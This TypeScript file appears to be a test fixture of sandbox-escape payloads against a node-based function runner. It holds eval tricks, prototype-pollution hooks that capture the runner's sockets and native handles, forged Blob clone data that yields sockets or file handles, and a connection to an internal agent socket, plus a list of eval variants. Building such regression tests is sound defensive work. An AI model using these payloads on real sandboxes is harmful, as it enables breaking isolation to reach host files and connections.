/**
 * Modules that try to get out of their isolate through the code that they share it with: the runner's, and node's.
 * Each answers or prints `ESCAPED` and what it got hold of; each did, before what stops it was there, on the versions
 * of node that it names or on all.
 */

export const MARK = 'ESCAPED';

/** Text of code that gets node's real modules and says so. */
const IMPORT = `import('node:fs').then((fs) => { globalThis.got = 'ESC' + 'APED ' + fs.readdirSync('/').join() })`;
const LATER = '(await new Promise((resolve) => setTimeout(resolve, 20)))';
const GOT = `(${LATER}, globalThis.got ?? null)`;
const REAL = `(real) => '${MARK} ' + (real.getBuiltinModule?.('fs').readdirSync('/').join() ?? Object.keys(real.binding('fs')))`;

/** A port is given an error with a cause. */
const POST_ERROR = `var own = new Error('x', { cause: { later: 1 } }); own.stack = 5;
  const { port1, port2 } = new MessageChannel(); port2.onmessage = () => {};
  port1.postMessage(own); setTimeout(() => port1.close(), 10)`;
/** V8 asks an error for these while it copies it: of one that is copied already, a function puts more into what is copied with it. */
const asked = (name: string): string => `for (const Kind of [Error, TypeError]) Object.defineProperty(
    Kind.prototype, '${name}', { configurable: true, get() { if (this !== own && this.cause) this.cause.later = blob; return 'Error'; } });
  ${POST_ERROR}`;
/** By each of these node copies a value, `blob`, as postMessage does. */
const COPIES = [
  'structuredClone(blob)',
  'structuredClone({ blob }, { transfer: [] })',
  'const { port1, port2 } = new MessageChannel(); port2.onmessage = () => {}; port1.postMessage(blob); setTimeout(() => port1.close(), 10)',
  `performance.mark('a', { detail: blob })`,
  `performance.measure('a', { start: 0, detail: blob })`,
  `new PerformanceMark('a', { detail: blob })`,
  `new (performance.mark('a').constructor)('a', { detail: blob })`,
  // By what a copy inherits, and what a name does.
  `Date.prototype.detail = blob; performance.mark('a', new Date(0))`,
  `Map.prototype.detail = blob; Map.prototype.start = 1; performance.measure('a', new Map())`,
  `performance.mark('m'); String.prototype.detail = blob; performance.measure('a', 'm')`,
  ...['name', 'stack'].map(asked),
  `Error.prepareStackTrace = (error) => { if (error !== own && error.cause) error.cause.later = blob; return 5; }; ${POST_ERROR}`,
];

export interface Attack {
  name: string;
  code: string;
  /** Body of its calls, as JSON. */
  event?: unknown;
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'a key that the runner has it evaluate: toJSON is eval',
    code: `let n = 0; export default async () => (n++ > 0 ? ${GOT} : { [${JSON.stringify(IMPORT)}]: { toJSON: eval } });`,
  },
  {
    name: 'the same, as the headers of what looks like a Response',
    code: `let n = 0;
      const headers = { forEach: (each) => each({ toJSON: eval }, ${JSON.stringify(IMPORT)}), getSetCookie: () => [] };
      export default async () => (n++ > 0 ? ${GOT} : { [Symbol.toStringTag]: 'Response', arrayBuffer() {}, status: 200, headers, body: null });`,
  },
  {
    name: 'eval as the handler',
    code: 'export default eval;',
    event: `import('node:fs').then((fs) => '${MARK} ' + fs.readdirSync('/'))`,
  },
  {
    name: 'a list of allowed modules that is asked by a method of its own',
    code: `import { createRequire } from 'module';
      Array.prototype.includes = () => true; Set.prototype.has = () => true; Object.hasOwn = () => true;
      Object.prototype.hasOwnProperty = () => true; Array.prototype.indexOf = () => 0; Array.prototype.some = () => true;
      export default () => '${MARK} ' + createRequire('/')('fs').readdirSync('/').join();`,
  },
  {
    name: 'a specifier that says another name each time it is asked',
    code: `import { createRequire } from 'module';
      let n = 0; const two = () => (n++ % 2 === 0 ? 'path' : 'fs');
      export default () => '${MARK} ' + createRequire('/')({ startsWith: () => true, slice: two, toString: two }).readdirSync('/').join();`,
  },
  {
    name: 'the runner’s socket as the receiver of an event',
    code: `import { EventEmitter } from 'events';
      let socket; const real = EventEmitter.prototype.emit;
      EventEmitter.prototype.emit = function (...args) { if (this?._handle?.writeBuffer) socket = this; return real.apply(this, args); };
      export default async () => { ${LATER}; return socket ? '${MARK} ' + typeof socket.connect : null; };`,
  },
  ...['push', 'read'].map((method) => ({
    name: `the runner’s socket as the receiver of Readable’s ${method}`,
    code: `import { Duplex, Readable } from 'stream';
      let socket;
      for (const { prototype } of [Duplex, Readable]) {
        const real = prototype.${method};
        prototype.${method} = function (...args) { if (this?._handle?.writeBuffer) socket = this; return real.apply(this, args); };
      }
      export default async () => { ${LATER}; return socket ? '${MARK} ' + typeof socket.connect : null; };`,
  })),
  {
    name: 'a handle by a setter of Object.prototype, and a descriptor of the process by its class',
    code: `let handle;
      Object.defineProperty(Object.prototype, 'handle', { configurable: true,
        set(value) { handle = value; Object.defineProperty(this, 'handle', { value, writable: true, configurable: true }); } });
      export default () => (handle ? '${MARK} ' + new handle.constructor(0).open(3) : null);`,
  },
  {
    name: 'a handle by a setter of what native handles inherit from',
    code: `import zlib from 'zlib';
      let handle; let of = zlib.createGzip()._handle;
      while (Object.getPrototypeOf(of) !== Object.prototype) {
        of = Object.getPrototypeOf(of);
        Object.defineProperty(of, 'handle', { configurable: true,
          set(value) { handle = value; Object.defineProperty(this, 'handle', { value, writable: true, configurable: true }); } });
      }
      export default () => (handle ? '${MARK} ' + new handle.constructor(0).open(3) : null);`,
  },
  {
    name: 'what node does next, by setters for the places of its queue',
    code: `let socket; const define = Object.defineProperty;
      for (let i = 0; i < 2048; i++) define(Array.prototype, i, { configurable: true,
        set(value) {
          for (let n = 0; n < value?.args?.length; n++) if (value.args[n]?._handle?.writeBuffer) socket = value.args[n];
          define(this, i, { value, writable: true, enumerable: true, configurable: true });
        } });
      export default async () => { ${LATER}; return socket ? '${MARK} ' + typeof socket.connect : null; };`,
  },
  {
    name: 'what runs now, by the name of a property that AsyncLocalStorage reads of it',
    code: `import { AsyncLocalStorage } from 'async_hooks';
      export default () => {
        const Found = AsyncLocalStorage.prototype.getStore.call({ enabled: true, kResourceStore: 'constructor' });
        return typeof Found === 'function' ? '${MARK} ' + new Found(0).open(3) : null;
      };`,
  },
  {
    name: 'the real process as the receiver of an event of its own',
    code: `import { EventEmitter } from 'events';
      const say = console.log; const real = EventEmitter.prototype.emit;
      EventEmitter.prototype.emit = function (...args) { if (this?.binding) say((${REAL})(this)); return real.apply(this, args); };
      export default () => process.exit(0);`,
  },
  {
    name: 'the runner’s calls and its way to send, by methods of collections',
    code: `let found;
      for (const of of [Map, Set]) for (const name of ['get', 'set', 'add', 'delete', 'forEach', Symbol.iterator]) {
        const real = of.prototype[name];
        if (real) of.prototype[name] = function (...args) {
          for (const one of [this, ...args]) if (one?.out?.writer ?? one?.remainingMs) found = one;
          return real.apply(this, args);
        };
      }
      export default () => (found ? '${MARK} ' + Object.keys(found).join() : null);`,
  },
  {
    name: 'a socket of the agent, by the class that opens the connections of fetch',
    code: `new Response('');
      export default async () => {
        for (const name of ['undici.globalDispatcher.1', 'undici.globalDispatcher.2']) {
          const agent = globalThis[Symbol.for(name)];
          if (!agent) continue;
          const dispatcher = new agent.constructor({ connect: { socketPath: '/function/agent.sock' } });
          try { await fetch('http://a/', { dispatcher }); } catch (error) {
            if (error.cause?.code === 'UND_ERR_SOCKET') return '${MARK} connected';
          }
        }
        return null;
      };`,
  },
  {
    name: 'the port to the main thread, by a print that goes past the log (node 20)',
    code: `import util from 'util';
      let port; const real = MessagePort.prototype.postMessage;
      try { MessagePort.prototype.postMessage = function (...args) { port = this; return real.apply(this, args); }; } catch {}
      util.log?.('x');
      export default async () => { ${LATER}; return port ? '${MARK} ' + typeof port.postMessage : null; };`,
  },
  {
    name: 'the agent that opens the connections of node:http, which comes with the first Response',
    code: `import { EventEmitter } from 'events';
      let agent; const [on, init] = [EventEmitter.prototype.on, EventEmitter.init];
      EventEmitter.prototype.on = function (...args) { if (this?.createConnection) agent = this; return on.apply(this, args); };
      EventEmitter.init = function (...args) { if (this?.createConnection) agent = this; return init.apply(this, args); };
      export default async () => {
        await new Response('x').text(); new Request('http://a/'); new FormData(); new CompressionStream('gzip');
        const { Socket } = agent ? { Socket: agent.createConnection({ path: '/function/agent.sock' }).constructor } : {};
        return Socket ? '${MARK} ' + Socket.name : null;
      };`,
  },
  ...COPIES.map((copy) => ({
    name: `a class of node’s insides, named as what a copy of its Blob is to be made of: ${copy}`,
    code: `import { EventEmitter } from 'events';
      let made; const real = EventEmitter.prototype.on;
      EventEmitter.prototype.on = function (...args) { made ??= this; return real.apply(this, args); };
      export default async () => {
        const names = Object.getOwnPropertySymbols(Blob.prototype);
        const [clone, take] = ['clone', 'deserialize'].map((one) => names.find((name) => String(name).includes(one)));
        EventEmitter.prototype[take] = () => {};
        const blob = new Blob(['x']);
        Object.defineProperty(blob, clone, { value: () => ({ data: {}, deserializeInfo: 'net:Socket' }) });
        try { ${copy}; } catch {}
        ${LATER};
        return made?.connect ? '${MARK} ' + made.constructor.name : null;
      };`,
  })),
  {
    name: 'a file with a descriptor of its choice, as what a copy of its Blob is to be made of',
    code: `export default async () => {
        const clone = Object.getOwnPropertySymbols(Blob.prototype).find((name) => String(name).includes('clone'));
        const blob = new Blob(['x']);
        const value = () => ({ data: { handle: { fd: 3 } }, deserializeInfo: 'internal/fs/promises:FileHandle' });
        Object.defineProperty(blob, clone, { value });
        try { return structuredClone(blob).read ? '${MARK} a file' : null; } catch { return null; }
      };`,
  },
  {
    name: 'globals that reach a socket, a file, a lock or another thread',
    code: `export default () => {
        const reach = ['WebSocket', 'EventSource', 'localStorage', 'sessionStorage', 'BroadcastChannel', 'Worker'];
        const found = reach.filter((name) => { try { return globalThis[name] !== undefined; } catch { return true; } });
        if (globalThis.navigator?.locks) found.push('locks');
        if (/native|undici|dispatcher/.test(String(globalThis.fetch))) found.push('fetch');
        return found.length > 0 ? '${MARK} ' + found.join() : null;
      };`,
  },
];

/** Ways by which code could come from a string; each throws, or prints or answers `ESCAPED`. */
export const STRINGS: readonly string[] = [
  `eval('1')`,
  `(0, eval)('1')`,
  `new Function('return 1')()`,
  `new (async () => {}).constructor('return 1')()`,
  `new (function* () {}).constructor('return 1')()`,
  `await Promise.resolve('1').then(eval)`,
  `Reflect.apply(eval, undefined, ['1'])`,
  `['1'].map(eval)[0]`,
  `JSON.parse('{"a":1}', function () { return eval('1') })`,
  `'1'.replace(/1/, eval)`,
  `Reflect.construct(Function, ['return 1'])()`,
  `await import('data:text/javascript,export default 1')`,
];
